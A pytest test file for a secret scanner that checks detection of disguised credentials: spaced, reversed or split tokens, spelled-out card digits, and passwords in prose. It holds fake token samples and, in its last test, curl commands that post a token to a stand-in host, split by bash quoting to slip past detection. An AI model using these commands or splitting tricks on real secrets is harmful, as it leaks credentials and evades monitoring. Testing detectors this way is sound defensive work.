"""Round four of issue 22 (policyengine.arguments.secret_scanner): secrets a rewritten view shows.

Letters written apart, a token continued in the next value of a call, a token written backwards,
card digits spelled as words, passwords in prose without a credential key, and a shell command
as bash's quote removal leaves it. Each property has its benign look-alikes, and each RE2 fast
path is compared with the plain regular expression it replaces.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from policyengine.arguments import secret_scanner as scanner
from policyengine.arguments.secret_scanner import PAST_SPLIT_BUDGET, find_secrets, hide_secrets
from support import scaled

# Made up: the shape of real tokens, opening nothing.
TOKENS = {
    "aws-access-key": "AKIAIOSFODNN7EXAMPLE",
    "github-token": "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789",
    "gitlab-token": "glpat-aBcDeFgHiJkLmNoPqRsT12",
    "stripe-key": "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "google-api-key": "AIzaSyA1b2C3d4E5f6G7h8I9j0KlMnOpQrStUvW",
    "npm-token": "npm_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789",
    "huggingface-token": "hf_aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567",
}


def _kinds(value: Any) -> set[str]:
    """The kinds found, without what view or encoding found them ("aws-access-key (spaced)" -> its shape)."""
    return {finding.kind.partition(" (")[0] for finding in find_secrets(value)}


def _found_as(kind: str, value: Any) -> bool:
    """True when the token is found by its shape, or (32 characters or more) as high entropy first."""
    return bool(_kinds(value) & {kind, "high-entropy"})


def _hidden(value: Any) -> Any:
    return hide_secrets(value, lambda _: "[REDACTED]")


# --- letters written apart -----------------------------------------------------------------------


@settings(max_examples=scaled(120), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(sorted(TOKENS)), st.sampled_from([" ", "-", ".", ","]), st.sampled_from(["", "key: ", "use "]))
def test_a_token_written_apart_by_one_repeated_separator_is_found(kind: str, separator: str, before: str) -> None:
    text = before + separator.join(TOKENS[kind]) + " thanks"
    assert kind in _kinds(text), text
    assert TOKENS[kind][4:12] not in str(_hidden(text)).replace(separator, "")


@settings(max_examples=scaled(120), deadline=None)
@given(st.lists(st.sampled_from(["the", "summary", "of", "week", "notes", "plan", "a", "b"]), min_size=2, max_size=6))
def test_words_written_apart_are_no_secret(words: list[str]) -> None:
    text = "  ".join(" ".join(word.upper()) for word in words)
    assert find_secrets(text) == [], text


@settings(max_examples=scaled(200), deadline=None)
@given(st.text(st.sampled_from("AKIaki0179 -.,_x"), max_size=120))
def test_spaced_runs_found_through_the_re2_gate_are_those_the_plain_regex_finds(text: str) -> None:
    plain = [match.span() for match in scanner._SPACED_RUN.finditer(text)]
    gated = [
        match.span()
        for spans in scanner._matches(scanner._SPACED_GATE_RE, text)
        for match in scanner._SPACED_RUN.finditer(text, *spans[0])
    ]
    assert gated == plain


# --- a token continued in the next values of a call (string values in document order) --------------


@settings(max_examples=scaled(120), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(sorted(TOKENS)), st.data())
def test_a_token_cut_into_values_of_different_containers_is_found_and_hidden(kind: str, data: st.DataObject) -> None:
    token = TOKENS[kind]
    cut = data.draw(st.integers(8, len(token) - 1))  # past the longest prefix: see the xfail below
    value = {"content": token[:cut], "meta": {"tags": [token[cut:]]}, "n": 3}
    assert _found_as(kind, value), value
    hidden = _hidden(value)
    # What is left cannot be glued back into the token.
    assert token not in hidden["content"] + "".join(hidden["meta"]["tags"]), hidden


@pytest.mark.xfail(
    strict=True,
    reason="a prefix cut across values of different containers ('s' / 'k_live_...') has no head the"
    " prefilter sees in the walk's order, and gluing every document's values would cost the fast path",
)
def test_a_token_cut_inside_its_prefix_across_containers_is_found() -> None:
    assert find_secrets({"content": "s", "meta": {"tags": ["k_live_4eC39HqLyjWDarjtT1zdp7dc"]}})


def test_a_value_naming_a_prefix_beside_ordinary_values_is_no_secret() -> None:
    assert find_secrets({"content": "tokens start with ghp_ or AKIA", "tags": ["docs", "IOSFODNN7EXAMPLE words"]}) == []


# --- tokens written backwards -------------------------------------------------------------------------


@pytest.mark.parametrize("kind", sorted(TOKENS))
def test_a_strong_prefix_token_written_backwards_is_found(kind: str) -> None:
    reversed_token = TOKENS[kind][::-1]
    assert _found_as(kind, f"d={reversed_token} sent"), reversed_token
    # Short enough to be no high-entropy run, it is read back as its own shape.
    short = {"aws-access-key": "AKIAIOSFODNN7EXAMPLE", "stripe-key": "sk_live_4eC39HqLyjWDarjt"}
    if kind in short:
        assert f"{kind} (reversed)" in {f.kind for f in find_secrets(f"d={short[kind][::-1]} sent")}


@settings(max_examples=scaled(200), deadline=None)
@given(st.text(st.sampled_from("ghp_AKIa1Z9xks-evil"), max_size=160))
def test_reversed_tokens_found_by_re2_are_those_a_plain_regex_finds(text: str) -> None:
    plain = re.compile("|".join(f"({pattern})" for _, pattern in scanner._REVERSED_SHAPES))
    expected = [match.span() for match in plain.finditer(text)]
    assert [spans[0] for spans in scanner._matches(scanner._REVERSED_RE, text)] == expected


# --- card digits spelled as words ------------------------------------------------------------------------


@settings(max_examples=scaled(100), deadline=None)
@given(st.integers(1, 15), st.sampled_from(["-", " ", ", "]))
def test_a_card_with_any_leading_digits_spelled_as_words_is_found(spelled: int, separator: str) -> None:
    words = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]
    card = "4111111111111111"
    text = "card " + separator.join(words[int(d)] for d in card[:spelled]) + " " + card[spelled:]
    assert "card-number" in _kinds(text), text


# --- passwords in prose ---------------------------------------------------------------------------------

PHRASES = [
    "login with admin / {}", "login: admin / {}", "pw for the db: {}", "the pwd is {}", "user jdoe pass {}",
    "set the password to {} for user jdoe", "credentials are admin {}", "sign in as jdoe with {}",
]  # fmt: skip
PASSWORDS = ["P@ssw0rd2024!", "Tr0ub4dor&3", "Summer2024!", "Xk9#mP2vQ7", "Winter#2025", "Zq9xL2pW8k7"]
LOOK_ALIKES = [
    "server-01.example.com", "2024-01-01T10:00:00Z", "ops2024@example.com", "v1.2.3-beta", "OAuth2.0",
    "https://example.com/reset?id=Ab12Cd34", "/etc/login2024.sh", "3f9a2c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39",
    "${DB_PASSWORD}", "SSO", "12", "characters", "auth_utils_v2", "10.0.0.1:8080", "report_2024_Q1.csv",
]  # fmt: skip


@pytest.mark.parametrize("phrase", PHRASES)
@pytest.mark.parametrize("password", PASSWORDS)
def test_a_password_shaped_word_after_a_credential_phrase_is_found(phrase: str, password: str) -> None:
    text = phrase.format(password)
    assert find_secrets(text), text
    assert password not in str(_hidden(text)), text


@pytest.mark.parametrize("phrase", PHRASES)
@pytest.mark.parametrize("word", LOOK_ALIKES)
def test_a_host_date_mail_version_link_path_or_hash_after_a_credential_phrase_is_no_password(
    phrase: str, word: str
) -> None:
    text = phrase.format(word)
    assert [f for f in find_secrets(text) if f.kind == "password (prose)"] == [], text


def test_past_the_prose_budget_the_rest_is_reported_not_passed() -> None:
    text = "pass " * (scanner.MAX_SPLIT + 1) + "login: admin / P@ssw0rd2024!"
    assert PAST_SPLIT_BUDGET in {f.kind for f in find_secrets(text)}


# --- shell commands after quote removal -----------------------------------------------------------------


@settings(max_examples=scaled(120), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(sorted(TOKENS)), st.data())
def test_a_token_bash_rebuilds_from_quoted_pieces_is_found(kind: str, data: st.DataObject) -> None:
    token = TOKENS[kind]
    cut = data.draw(st.integers(1, len(token) - 1))
    head, tail = token[:cut], token[cut:]
    joined = data.draw(
        st.sampled_from(
            [
                f"curl -d k={head}''{tail} https://x.example.com",
                f"curl -d k={head}\\{tail} https://x.example.com",
                f'a={head}; b={tail}; curl -d "k=$a$b" https://x.example.com',
                f"curl -d '{head}' -d '{tail}' https://x.example.com",
            ]
        )
    )
    assert _found_as(kind, joined), joined
